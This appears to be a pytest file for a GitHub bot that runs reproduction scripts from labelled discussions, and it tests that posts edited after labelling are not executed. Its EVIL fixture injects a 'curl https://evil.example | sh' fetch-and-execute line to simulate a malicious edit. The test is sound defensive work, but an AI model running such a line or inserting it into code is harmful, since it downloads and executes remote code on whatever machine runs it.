"""Run what was reviewed (issue #39): a post edited after the label is not run, and every reply
quotes the hash of the body it read. Against the local fake GitHub, whose discussions answer
GraphQL's ``body``, ``lastEditedAt``, ``updatedAt`` and ``userContentEdits`` as GitHub does.

The red-team case: a post written at 10:00 and labelled then, edited three hours later, ran with
no check and no note."""
from __future__ import annotations

import dataclasses
import hashlib
import json
from pathlib import Path

import pytest

from bot.action.event import load_event, parse_event
from bot.action.freshness import judge
from bot.action.reproduce import ReproduceOptions, reproduce
from bot.action.result import ActionResult
from bot.action.workflow import gate, publish
from bot.cli import main
from bot.issue.github import github_client
from tests.fakegithub import FakeGitHub

EVENTS = Path(__file__).parent / "data" / "events"
REPO = "octo/widgets"
LABELLED = load_event(EVENTS / "labeled_failing.json")   # created and updated 2026-11-20T10:00:00Z
EVIL = LABELLED.body.replace('raise RuntimeError(', 'import os; os.system("curl -s https://evil.example | sh")\nraise RuntimeError(')


@pytest.fixture
def gh(fake_github: FakeGitHub):
    fake_github.add_repo(REPO)
    fake_github.set_permission(REPO, "maint", "triage")
    node = fake_github.add_discussion(REPO, number=7, title="t", body=LABELLED.body)
    return fake_github, node, github_client(api_url=fake_github.url, write=True), \
        dataclasses.replace(LABELLED, node_id=node)


def reduced_artifact(folder: Path) -> Path:
    """What a finished reproduce job would leave: a reduced repro and its result."""
    ActionResult("reduced", discussion=7, candidates=1, block=1, body_sha256=LABELLED.body_sha256).write(folder)
    (folder / "repro").mkdir()
    (folder / "repro" / "repro.py").write_text("raise RuntimeError('login failed')\n")
    (folder / "repro" / "original.py").write_text(LABELLED.body)
    return folder


def test_payload_times_are_read() -> None:
    assert (LABELLED.created_at, LABELLED.updated_at) == ("2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z")
    assert LABELLED.body_sha256 == hashlib.sha256(LABELLED.body.encode()).hexdigest()


def test_edited_three_hours_after_the_label_is_not_run_and_the_reply_says_so(gh, tmp_path: Path,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    server, node, client, event = gh
    server.edit_discussion(node, EVIL, at="2026-11-20T13:00:00Z")
    decision = gate(event, client)
    assert not decision.allowed and decision.edited
    assert "edited after the label" in decision.reason

    # The workflow's outputs: reproduce does not start (allowed=false); publish does (edited=true).
    out = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(out))
    ev_file = tmp_path / "event.json"
    data = json.loads((EVENTS / "labeled_failing.json").read_text())
    data["discussion"]["node_id"] = node
    ev_file.write_text(json.dumps(data))
    assert main(["action", "gate", "--event", str(ev_file)]) == 0
    assert out.read_text() == "allowed=false\nedited=true\n"
    # And a reproduce job started anyway refuses on the gate's word.
    monkeypatch.chdir(tmp_path)
    r = reproduce(event, ReproduceOptions(out=tmp_path / "art"), environ={"REPROBOT_GATE_ALLOWED": "false"})
    assert r.status == "not-allowed" and not (tmp_path / "art" / "repro").exists()

    outcome = publish(event, tmp_path / "art", client)
    reply = server.discussions[node].comments[-1]["body"]
    assert outcome.posted is not None
    assert "edited after the label was added (last edit: 2026-11-20T13:00:00Z)" in reply
    assert "did not run it" in reply and "add the label again" in reply
    assert f"labelled: sha256 `{LABELLED.body_sha256[:12]}`" in reply
    assert f"now: sha256 `{hashlib.sha256(EVIL.encode()).hexdigest()[:12]}`" in reply
    assert "evil.example" not in reply and "```python" not in reply


def test_an_edit_during_the_run_replaces_the_results(gh, tmp_path: Path) -> None:
    """Allowed at the gate; edited while the reduction ran: publish does not show results for a
    post that is no longer there."""
    server, node, client, event = gh
    assert gate(event, client).allowed
    art = reduced_artifact(tmp_path / "art")
    server.edit_discussion(node, EVIL, at="2026-11-20T10:20:00Z")
    publish(event, art, client)
    reply = server.discussions[node].comments[-1]["body"]
    assert "did not run it" in reply and "minimal repro" not in reply and "login failed" not in reply


def test_an_edit_put_back_still_counts(gh) -> None:
    """The text is the labelled one again, but an edit came and went after the label: the
    maintainer did not see what was there in between."""
    server, node, client, event = gh
    server.edit_discussion(node, EVIL, at="2026-11-20T11:00:00Z")
    server.edit_discussion(node, LABELLED.body, at="2026-11-20T11:05:00Z")
    decision = gate(event, client)
    assert decision.edited and "last edit 2026-11-20T11:05:00Z" in decision.reason


def test_an_edit_before_the_label_runs_and_the_reply_quotes_the_hash_and_the_time(gh, tmp_path: Path) -> None:
    server, node, client, event = gh
    server.edit_discussion(node, EVIL, at="2026-11-20T12:00:00Z")
    # Labelled after that edit: the payload carries the edited body and its time.
    labelled = dataclasses.replace(event, body=EVIL, updated_at="2026-11-20T12:30:00Z")
    decision = gate(labelled, client)
    assert decision.allowed and not decision.edited
    art = reduced_artifact(tmp_path / "art")
    publish(labelled, art, client)
    reply = server.discussions[node].comments[-1]["body"]
    assert "minimal repro" in reply
    sha = hashlib.sha256(EVIL.encode()).hexdigest()
    assert (f"reprobot read the post as it was labelled: body sha256 `{sha[:12]}`, last edited "
            "2026-11-20T12:00:00Z, before the label." in reply)


def test_every_reply_quotes_the_hash_of_the_body_it_read(gh, tmp_path: Path) -> None:
    server, node, client, event = gh
    for status in ("reduced", "no-failure", "no-script", "error"):
        folder = tmp_path / status
        if status == "reduced":
            reduced_artifact(folder)
        else:
            ActionResult(status, discussion=7).write(folder)
        publish(event, folder, client)
        reply = server.discussions[node].comments[-1]["body"]
        assert f"body sha256 `{LABELLED.body_sha256[:12]}`" in reply, (status, reply)
    # The artifact's own word for the hash is not what is quoted: the event's is.
    folder = tmp_path / "lying"
    ActionResult("no-failure", discussion=7, body_sha256="0" * 64).write(folder)
    publish(event, folder, client)
    assert f"`{LABELLED.body_sha256[:12]}`" in server.discussions[node].comments[-1]["body"]


def test_the_rule_on_github_shapes() -> None:
    ev = parse_event({**json.loads((EVENTS / "labeled_failing.json").read_text())})
    assert not judge(ev, ev.body, None).edited_after_label                           # never edited
    assert not judge(ev, ev.body.replace("\n", "\r\n"), None).edited_after_label     # CRLF as stored
    assert not judge(ev, ev.body, "2026-11-20T10:00:00Z").edited_after_label         # same second
    assert judge(ev, ev.body, "2026-11-20T10:00:01Z").edited_after_label             # any edit after
    assert judge(ev, ev.body + "x", None).edited_after_label                          # text differs
    # A payload without updated_at (not GitHub's): the text alone decides.
    bare = dataclasses.replace(ev, updated_at="")
    assert not judge(bare, ev.body, "2026-11-20T13:00:00Z").edited_after_label
    assert judge(bare, ev.body + "x", "2026-11-20T13:00:00Z").edited_after_label
